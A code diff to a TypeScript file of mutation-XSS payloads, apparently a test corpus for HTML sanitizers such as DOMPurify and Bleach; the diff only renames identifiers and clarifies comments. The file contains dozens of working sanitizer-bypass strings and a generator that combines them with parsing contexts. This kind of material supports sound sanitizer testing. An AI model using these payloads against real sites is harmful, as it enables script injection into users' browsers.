@@ -1,8 +1,8 @@
 /**
- * Mutation: inert in one reading, running in the next. Those that got through DOMPurify, Closure, Bleach, Ammonia, sanitize-html,
- * TYPO3, jQuery and the editors, and after them every crossing of what they are made of.
+ * Mutation XSS: markup that is harmless when parsed once and runs a script when serialized and parsed again. First those that got
+ * through DOMPurify, Closure, Bleach, Ammonia, sanitize-html, TYPO3, jQuery and editors, then combinations of their parts.
  */
-const deep = (count: number, content: string) => `${'<div>'.repeat(count)}${content}${'</div>'.repeat(count)}`;
+const nest = (count: number, content: string) => `${'<div>'.repeat(count)}${content}${'</div>'.repeat(count)}`;
 
 export const mutations: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
@@ -99,18 +99,18 @@ export const mutations: readonly string[] = [
   '<dl><dd><svg><desc><dt><style><a id="</style><img src=x onerror=alert(1)>">',
   '<frameset><noframes></frameset><img src=x onerror=alert(1)></noframes>',
   '<isindex prompt="<svg><style><a id=&quot;</style><img src=x onerror=alert(1)>&quot;>">',
-  deep(
+  nest(
     506,
     '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=alert(1)>"></a></style></svg></caption></table>',
   ),
-  deep(
+  nest(
     506,
     '<table id=o><caption id=o><svg><desc><table id=i><caption id=i></caption></table></desc><style><a title="</style><img src onerror=alert(1)>"></a></style></svg></caption></table>',
   ),
-  deep(509, '<svg><style><a id="</style><img src=x onerror=alert(1)>">'),
-  deep(510, '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
-  deep(511, '<img src=x onerror=alert(1)>'),
-  deep(513, '<table><tr><td><a href="/x">a<table><tr><td><a href="/y">b</a></table></table>'),
+  nest(509, '<svg><style><a id="</style><img src=x onerror=alert(1)>">'),
+  nest(510, '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'),
+  nest(511, '<img src=x onerror=alert(1)>'),
+  nest(513, '<table><tr><td><a href="/x">a<table><tr><td><a href="/y">b</a></table></table>'),
   `${'<b>'.repeat(520)}<svg><style><a id="</style><img src=x onerror=alert(1)>">`,
   `${'<svg>'.repeat(520)}<desc><img src=x onerror=alert(1)>`,
   `${'<a href="/x"><table><tr><td>'.repeat(170)}<style><a id="</style><img src=x onerror=alert(1)>">`,
@@ -141,8 +141,8 @@ export const mutations: readonly string[] = [
   '<p title="--!><img src=x onerror=alert(1)>">a</p>',
 ];
 
-/** Where the rules of reading change: `§` is inside. */
-const around: readonly string[] = [
+/** Contexts with different parsing rules; `§` is replaced by the content. */
+const contexts: readonly string[] = [
   '§',
   '<svg>§',
   '<svg></p>§',
@@ -173,7 +173,7 @@ const around: readonly string[] = [
 const rawText = 'style title textarea xmp iframe noembed noframes noscript script'.split(' ');
 const attack = '<img src=x onerror=alert(1)>';
 
-/** How what seems to be inside turns out to be outside. */
+/** Contents that end a raw-text element early, so that the attack lands outside of it. */
 const endings = (raw: string): string[] => [
   `<${raw}><a id="</${raw}>${attack}">`,
   `<${raw}>${attack}</${raw}>`,
@@ -193,6 +193,6 @@ const withoutRawText: readonly string[] = [
   '<a href="javascript:alert(1)" onclick=alert(1)>a</a>',
 ];
 
-export const mutationCombinations: readonly string[] = around.flatMap((place) =>
-  [...rawText.flatMap(endings), ...withoutRawText].map((content) => place.replace('§', () => content)),
+export const mutationCombinations: readonly string[] = contexts.flatMap((context) =>
+  [...rawText.flatMap(endings), ...withoutRawText].map((content) => context.replace('§', () => content)),
 );
